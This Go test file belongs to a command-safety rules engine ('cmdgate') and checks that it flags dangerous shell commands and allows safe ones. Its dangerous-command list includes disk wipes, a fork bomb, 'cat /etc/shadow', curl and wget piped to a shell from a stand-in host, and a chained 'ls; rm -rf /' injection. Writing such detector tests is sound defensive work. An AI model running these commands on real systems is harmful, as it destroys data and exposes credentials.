package rules

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/doeshing/cmdgate/internal/domain"
)

func newDefaultEngine(t *testing.T) *Engine {
	t.Helper()
	engine, err := NewEngine(filepath.Join(t.TempDir(), "missing.yaml"))
	if err != nil {
		t.Fatalf("NewEngine error: %v", err)
	}
	return engine
}

func TestQuickCheckDangerousPatterns(t *testing.T) {
	engine := newDefaultEngine(t)

	for _, command := range []string{
		"rm -rf /",
		"rm -rf *",
		"dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sdb1",
		"fdisk /dev/sda",
		"chmod -R 777 /var/www",
		"curl http://evil.example/x.sh | bash",
		"wget -qO- http://evil.example/x.sh | sh",
		"echo pwned > /dev/sda",
		"cat /etc/shadow",
		":(){ :|:& };:",
	} {
		verdict := engine.QuickCheck(command)
		if verdict.Level != domain.LevelDangerous {
			t.Errorf("QuickCheck(%q) = %s, want dangerous", command, verdict.Level)
		}
		if verdict.Consequences == "" {
			t.Errorf("QuickCheck(%q) missing consequences", command)
		}
	}
}

func TestQuickCheckDangerousPrecedesAllowList(t *testing.T) {
	engine := newDefaultEngine(t)

	// ls is allow-listed, but the pattern scan runs first.
	verdict := engine.QuickCheck("ls; rm -rf /")
	if verdict.Level != domain.LevelDangerous {
		t.Fatalf("expected dangerous, got %+v", verdict)
	}
}

func TestQuickCheckAllowList(t *testing.T) {
	engine := newDefaultEngine(t)

	for _, command := range []string{
		"ls -la",
		"git status",
		"cat README.md",
		"docker ps",
		"tar czf backup.tar.gz src/",
		"chmod +x deploy.sh",
	} {
		verdict := engine.QuickCheck(command)
		if verdict.Level != domain.LevelSafe {
			t.Errorf("QuickCheck(%q) = %s, want safe", command, verdict.Level)
		}
	}
}

func TestQuickCheckModerateList(t *testing.T) {
	engine := newDefaultEngine(t)

	for _, command := range []string{
		"rm old.log",
		"chmod 644 config.ini",
		"apt-get install jq",
		"systemctl restart nginx",
		"scp file host:/tmp/",
	} {
		verdict := engine.QuickCheck(command)
		if verdict.Level != domain.LevelModerate {
			t.Errorf("QuickCheck(%q) = %s, want moderate", command, verdict.Level)
		}
		if verdict.SuggestedAction == "" {
			t.Errorf("QuickCheck(%q) missing suggested action", command)
		}
	}
}

func TestQuickCheckUnknownNeverSafe(t *testing.T) {
	engine := newDefaultEngine(t)

	for _, command := range []string{
		"frobnicate --all",
		"",
		"   ",
		"'unterminated quote",
		"\x00\x01\x02",
	} {
		verdict := engine.QuickCheck(command)
		if verdict.Level == domain.LevelSafe {
			t.Errorf("QuickCheck(%q) resolved to safe without allow-list membership", command)
		}
		if verdict.Reason == "" {
			t.Errorf("QuickCheck(%q) returned empty reason", command)
		}
	}
}

func TestNewEngineLoadsRulesFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.yaml")
	content := `rules:
  danger_patterns:
    - pattern: 'drop\s+database'
      message: database destruction
  safe_commands: [frobnicate]
  moderate_commands: [mangle]
`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatalf("write rules file: %v", err)
	}

	engine, err := NewEngine(path)
	if err != nil {
		t.Fatalf("NewEngine error: %v", err)
	}

	if got := engine.QuickCheck("mysql -e 'DROP DATABASE prod'"); got.Level != domain.LevelDangerous {
		t.Fatalf("custom danger pattern not applied, got %+v", got)
	}
	if got := engine.QuickCheck("frobnicate --all"); got.Level != domain.LevelSafe {
		t.Fatalf("custom allow-list not applied, got %+v", got)
	}
	if got := engine.QuickCheck("mangle input.txt"); got.Level != domain.LevelModerate {
		t.Fatalf("custom moderate list not applied, got %+v", got)
	}
}

func TestNewEngineRejectsBadRegex(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.yaml")
	content := `rules:
  danger_patterns:
    - pattern: '([unclosed'
      message: broken
`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatalf("write rules file: %v", err)
	}

	if _, err := NewEngine(path); err == nil {
		t.Fatal("expected error for invalid pattern regex")
	}
}
